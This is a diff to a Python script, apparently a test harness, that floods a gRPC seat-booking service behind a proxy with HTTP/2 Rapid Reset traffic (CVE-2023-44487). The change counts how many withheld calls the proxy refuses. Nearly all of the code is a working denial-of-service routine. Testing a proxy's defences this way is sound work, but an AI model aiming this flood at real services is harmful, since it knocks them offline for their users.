@@ -7,11 +7,12 @@ import ssl
 import struct
 import threading
 
-# --- HTTP/2, as much of it as a flood of calls that are cancelled at once needs (RFC 9113, 7541) ---
+# --- HTTP/2, as much of it as a flood of calls cancelled at once needs (RFC 9113, 7541) -----------
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
 END_HEADERS = 4
+FRAME_HEAD_BYTES = 9
 CANCEL = struct.pack(">I", 8)
 # How many calls one flood makes at most, so that it ends by itself.
 CALLS_MAX = 5_000_000
@@ -35,14 +36,15 @@ def call_head(path):
 
 
 class RapidReset(threading.Thread):
-    """Begins calls and cancels each at once (CVE-2023-44487) until `stop`."""
+    """Begins calls and cancels them at once (CVE-2023-44487) until `stop`. One in a hundred it does
+    not cancel, and never sends its body: only a proxy that refuses the call answers it."""
 
     def __init__(self, address, tls):
         super().__init__(daemon=True)
         self.how = (address, tls)
         self.stopping = threading.Event()
         self.calls = 0
-        self.connections = 0
+        self.refused = 0
 
     def run(self):
         while not self.stopping.is_set() and self.calls < CALLS_MAX:
@@ -54,29 +56,43 @@ class RapidReset(threading.Thread):
         head = call_head("/seatlock.v1.SeatLockService/GetShowtime")
         with tls.wrap_socket(socket.create_connection(address, 10),
                              server_hostname="seats.example") as link:
-            self.connections += 1
             link.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
+            buffer = b""
             for first in range(1, 2 * CALLS_A_CONNECTION, 2 * CALLS_AT_ONCE):
                 if self.stopping.is_set():
                     return
-                streams = range(first, first + 2 * CALLS_AT_ONCE, 2)
+                last = first + 2 * CALLS_AT_ONCE - 2
                 link.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, head) +
-                                      frame(RST_STREAM, 0, stream, CANCEL) for stream in streams))
+                                      frame(RST_STREAM, 0, stream, CANCEL)
+                                      for stream in range(first, last, 2)) +
+                             frame(HEADERS, END_HEADERS, last, head))
                 self.calls += CALLS_AT_ONCE
-                self._read_away(link)
+                buffer = self._count_answers(buffer + read_what_is_there(link))
 
-    @staticmethod
-    def _read_away(link):
-        link.setblocking(False)
-        with contextlib.suppress(ssl.SSLWantReadError):
-            while link.recv(65536):
-                pass
-            raise ConnectionError("the proxy has had enough")
-        link.settimeout(10)
+    def _count_answers(self, buffer):
+        """Of the whole frames in it; gives the rest."""
+        while len(buffer) >= FRAME_HEAD_BYTES:
+            end = FRAME_HEAD_BYTES + int.from_bytes(buffer[:3], "big")
+            if len(buffer) < end:
+                break
+            self.refused += buffer[3] == HEADERS
+            buffer = buffer[end:]
+        return buffer
 
     def stop(self):
         self.stopping.set()
         self.join(30)
+
+
+def read_what_is_there(link):
+    data = b""
+    link.setblocking(False)
+    with contextlib.suppress(ssl.SSLWantReadError):
+        while piece := link.recv(65536):
+            data += piece
+        raise ConnectionError("the proxy has had enough")
+    link.settimeout(10)
+    return data
 
 
 # --- another address ------------------------------------------------------------------------------
